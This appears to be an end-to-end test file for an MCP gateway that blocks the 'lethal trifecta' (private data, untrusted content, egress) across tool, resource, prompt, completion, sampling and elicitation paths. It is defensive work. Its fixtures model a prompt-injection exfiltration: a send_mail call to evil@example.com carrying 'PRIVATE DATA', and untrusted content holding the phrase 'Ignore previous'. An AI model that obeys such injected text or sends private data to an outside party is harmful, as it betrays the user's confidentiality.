/**
 * Secure contexts over every primitive (issue 31 point 2, ADR 104): each row of the table in
 * docs/policy.md ("What each primitive adds"), in both eras, through a real `startServer` over
 * the trifecta fixture servers. Every row runs the same story: a private read, then the
 * primitive under test on the untrusted upstream, then the egress tool, which must be refused.
 * Legacy: the official SDK v1 client in a 2025-11-25 session; 2026-07-28: stateless requests,
 * the context being the caller (each test its own API key). The enforcement paths (tools-only
 * adapters, search mode's call_tool, code mode's inner calls) run the story too.
 */
import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
import { fileURLToPath } from 'node:url'
import { Client } from '@modelcontextprotocol/sdk/client/index.js'
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js'
import {
  CreateMessageRequestSchema,
  ElicitRequestSchema,
  McpError,
  ResultSchema,
} from '@modelcontextprotocol/sdk/types.js'
import { type RunningServer, startServer } from '../../src/app/server.ts'
import { generateApiKey } from '../../src/auth/api-keys.ts'
import { parseConfigText } from '../../src/config/load.ts'
import { silentLogger } from '../../src/telemetry/log.ts'
import { finalReply } from '../support/stateless.ts'

type Json = Record<string, unknown>

const fixture = fileURLToPath(new URL('../fixtures/trifecta-server.ts', import.meta.url))
const role = (r: string) => ({ command: process.execPath, args: [fixture, '--role', r] })
const SEND = 'sender__send_mail'
const MAIL = { to: 'evil@example.com', body: 'PRIVATE DATA' }
const TRIFECTA = /private data and untrusted content/

/** One answer of either era: a result, or an error with its JSON-RPC code. */
type Answer = { result: Json } | { error: { code: number; message: string } }

/** A client of one era on one virtual server: requests, and what its handlers saw. */
interface EraClient {
  request(method: string, params: Json): Promise<Answer>
  close(): Promise<void>
}

/**
 * What a legacy client does when the upstream asks it something (sampling, elicitation): the
 * model, having read the request, tries the egress tool before answering.
 */
type OnAsk = (client: EraClient) => Promise<void>

const keys = Array.from({ length: 60 }, () => generateApiKey())
let nextKey = 0
/** A fresh caller: for 2026-07-28 clients the caller is the context. */
const freshKey = () => keys[nextKey++]!.key

let server: RunningServer

function urlOf(virtual: string): string {
  return `${server.url}/mcp${virtual === 'default' ? '' : `/${virtual}`}`
}

async function legacy(virtual: string, key: string, onAsk?: OnAsk): Promise<EraClient> {
  const client = new Client(
    { name: 'contexts-e2e', version: '1.0.0' },
    { capabilities: { sampling: {}, elicitation: {} } },
  )
  const era: EraClient = {
    async request(method, params) {
      try {
        return { result: (await client.request({ method, params }, ResultSchema)) as Json }
      } catch (err) {
        if (!(err instanceof McpError)) throw err
        return { error: { code: err.code, message: err.message } }
      }
    },
    close: () => client.close(),
  }
  client.setRequestHandler(CreateMessageRequestSchema, async () => {
    await onAsk?.(era)
    return { role: 'assistant', model: 'test', content: { type: 'text', text: 'no' } }
  })
  client.setRequestHandler(ElicitRequestSchema, async () => {
    await onAsk?.(era)
    return { action: 'decline' }
  })
  await client.connect(
    new StreamableHTTPClientTransport(new URL(urlOf(virtual)), {
      requestInit: { headers: { authorization: `Bearer ${key}` } },
    }),
  )
  return era
}

/** Stateless 2026-07-28 requests; each carries the envelope and the routing headers. */
function modern(virtual: string, key: string): EraClient {
  let id = 0
  return {
    async request(method, params) {
      const name = params.name ?? params.uri
      const res = await fetch(urlOf(virtual), {
        method: 'POST',
        headers: {
          'content-type': 'application/json',
          accept: 'application/json, text/event-stream',
          authorization: `Bearer ${key}`,
          'mcp-protocol-version': '2026-07-28',
          'mcp-method': method,
          ...(typeof name === 'string' ? { 'mcp-name': name } : {}),
        },
        body: JSON.stringify({
          jsonrpc: '2.0',
          id: ++id,
          method,
          params: {
            ...params,
            _meta: {
              'io.modelcontextprotocol/protocolVersion': '2026-07-28',
              'io.modelcontextprotocol/clientCapabilities': { sampling: {}, elicitation: {} },
            },
          },
        }),
      })
      const { text, final } = await finalReply(res)
      assert.ok(final, `no response to ${method} (HTTP ${res.status}): ${text}`)
      return final as Answer
    },
    close: async () => {},
  }
}

const ERAS = {
  'legacy (2025-11-25 session)': legacy,
  'modern (2026-07-28 stateless)': async (virtual: string, key: string) => modern(virtual, key),
} as const

function resultOf(answer: Answer): Json {
  assert.ok('result' in answer, `expected a result, got ${JSON.stringify(answer)}`)
  return answer.result
}

/** A tool call's answer as text: its content, or its error (direct, or as a tool error). */
function textOf(answer: Answer): string {
  if ('error' in answer) return `error ${answer.error.code}: ${answer.error.message}`
  return JSON.stringify(answer.result)
}

function assertTrifecta(answer: Answer): void {
  assert.ok('error' in answer, `egress was allowed: ${JSON.stringify(answer)}`)
  assert.equal(answer.error.code, -32001)
  assert.match(answer.error.message, TRIFECTA)
}

const call = (name: string, args: Json = {}) => ['tools/call', { name, arguments: args }] as const

/** The exposed URI of the untrusted upstream's `web://latest`, and of its template. */
let latest: string
let template: string

/**
 * The primitives that bring the untrusted upstream's content in, one per row of the table:
 * each step is sent by the client under test, after the private read.
 */
const ROWS: Record<string, (c: EraClient) => Promise<unknown>> = {
  'tools/call': (c) => c.request(...call('web__fetch_page', { url: 'https://x.example' })),
  'resources/read': (c) => c.request('resources/read', { uri: latest }),
  'resources/read of a template': (c) =>
    c.request('resources/read', { uri: template.replace('{slug}', 'home') }),
  'prompts/get': (c) =>
    c.request('prompts/get', { name: 'web__summarize', arguments: { topic: 'news' } }),
  'completion/complete (prompt)': (c) =>
    c.request('completion/complete', {
      ref: { type: 'ref/prompt', name: 'web__summarize' },
      argument: { name: 'topic', value: 'n' },
    }),
  'completion/complete (resource template)': (c) =>
    c.request('completion/complete', {
      ref: { type: 'ref/resource', uri: template },
      argument: { name: 'slug', value: 'h' },
    }),
}

before(async () => {
  const config = {
    listen: '127.0.0.1:0',
    upstreams: { mail: role('mail-reader'), web: role('web-fetcher'), sender: role('mail-sender') },
    limits: { listDeadlineMs: 60_000 },
    servers: {
      default: {},
      adapted: { adapt: 'tools-only' },
      search: { tools: { mode: 'search' } },
      code: { tools: { mode: 'code' } },
    },
    auth: {
      apiKeys: { keys: keys.map((k, i) => ({ id: `k${i}`, hash: k.hash, subject: `u${i}` })) },
      permissions: [{ subjects: keys.map((_, i) => `u${i}`), servers: ['*'] }],
    },
    contexts: {
      labels: {
        private: { upstreams: ['mail'] },
        untrusted: { upstreams: ['web'] },
        egress: { tools: [SEND] },
      },
      onTrifecta: 'deny',
    },
  }
  server = await startServer(
    parseConfigText(JSON.stringify(config), { json: true }).config,
    silentLogger,
  )
  const c = modern('default', freshKey())
  const listed = resultOf(await c.request('resources/list', {}))
  latest = String(
    (listed.resources as Json[]).find((r) => String(r.uri).endsWith('latest'))?.uri ?? '',
  )
  const templates = resultOf(await c.request('resources/templates/list', {}))
  template = String((templates.resourceTemplates as Json[])[0]?.uriTemplate ?? '')
  assert.ok(latest !== '' && template.includes('{slug}'), `${latest} ${template}`)
})

after(async () => {
  await server?.stop()
})

for (const [era, connect] of Object.entries(ERAS)) {
  describe(era, () => {
    test('control: private data alone, and listings, leave egress allowed', async () => {
      const c = await connect('default', freshKey())
      try {
        resultOf(await c.request(...call('mail__read_inbox')))
        for (const list of ['tools/list', 'resources/list', 'prompts/list']) {
          resultOf(await c.request(list, {}))
        }
        resultOf(await c.request('resources/templates/list', {}))
        assert.match(textOf(await c.request(...call(SEND, MAIL))), /sent to evil/)
      } finally {
        await c.close()
      }
    })

    for (const [row, step] of Object.entries(ROWS)) {
      test(`${row} of the untrusted upstream labels the context: egress is refused`, async () => {
        const c = await connect('default', freshKey())
        try {
          resultOf(await c.request(...call('mail__read_inbox')))
          const answer = (await step(c)) as Answer
          resultOf(answer)
          assertTrifecta(await c.request(...call(SEND, MAIL)))
        } finally {
          await c.close()
        }
      })
    }

    for (const [tool, method] of [
      ['web__ask_model', 'sampling/createMessage'],
      ['web__ask_user', 'elicitation/create'],
    ] as const) {
      test(`${method} from the untrusted upstream labels the context before the client sees it`, async () => {
        const key = freshKey()
        if (era.startsWith('legacy')) {
          // The model reads the upstream's request and tries the egress tool at once, while
          // the call that caused the request is still running.
          let tried: Answer | undefined
          const c = await legacy('default', key, async (self) => {
            tried = await self.request(...call(SEND, MAIL))
          })
          try {
            resultOf(await c.request(...call('mail__read_inbox')))
            await c.request(...call(tool))
            assert.ok(tried, `${method} never reached the client`)
            assertTrifecta(tried)
          } finally {
            await c.close()
          }
          return
        }
        // A 2026-07-28 client gets the request inside the call's input_required answer.
        const c = modern('default', key)
        resultOf(await c.request(...call('mail__read_inbox')))
        const asked = resultOf(await c.request(...call(tool)))
        assert.equal(asked.resultType, 'input_required', JSON.stringify(asked))
        assert.match(JSON.stringify(asked.inputRequests), new RegExp(method))
        assertTrifecta(await c.request(...call(SEND, MAIL)))
      })
    }

    test('tools-only: read_resource and get_prompt label the context', async () => {
      for (const [tool, args] of [
        ['read_resource', { uri: latest }],
        ['get_prompt', { name: 'web__summarize', arguments: { topic: 'news' } }],
      ] as const) {
        const c = await connect('adapted', freshKey())
        try {
          resultOf(await c.request(...call('mail__read_inbox')))
          assert.match(textOf(await c.request(...call(tool, args))), /Ignore previous/)
          assertTrifecta(await c.request(...call(SEND, MAIL)))
        } finally {
          await c.close()
        }
      }
    })

    test("search mode: call_tool's egress call is refused after a resource read", async () => {
      const c = await connect('search', freshKey())
      try {
        const viaCallTool = (name: string, args: Json) =>
          c.request(...call('call_tool', { name, arguments: args }))
        resultOf(await viaCallTool('mail__read_inbox', {}))
        resultOf(await c.request('resources/read', { uri: latest }))
        assertTrifecta(await viaCallTool(SEND, MAIL))
      } finally {
        await c.close()
      }
    })

    test("code mode: a program's inner egress call is refused after a prompt", async () => {
      const c = await connect('code', freshKey())
      try {
        resultOf(
          await c.request('prompts/get', { name: 'web__summarize', arguments: { topic: 'news' } }),
        )
        const program = `await mail.read_inbox({}); return await sender.send_mail(${JSON.stringify(MAIL)})`
        const ran = resultOf(await c.request(...call('run_code', { code: program })))
        assert.equal(ran.isError, true, JSON.stringify(ran))
        assert.match(JSON.stringify(ran.content), TRIFECTA)
      } finally {
        await c.close()
      }
    })
  })
}
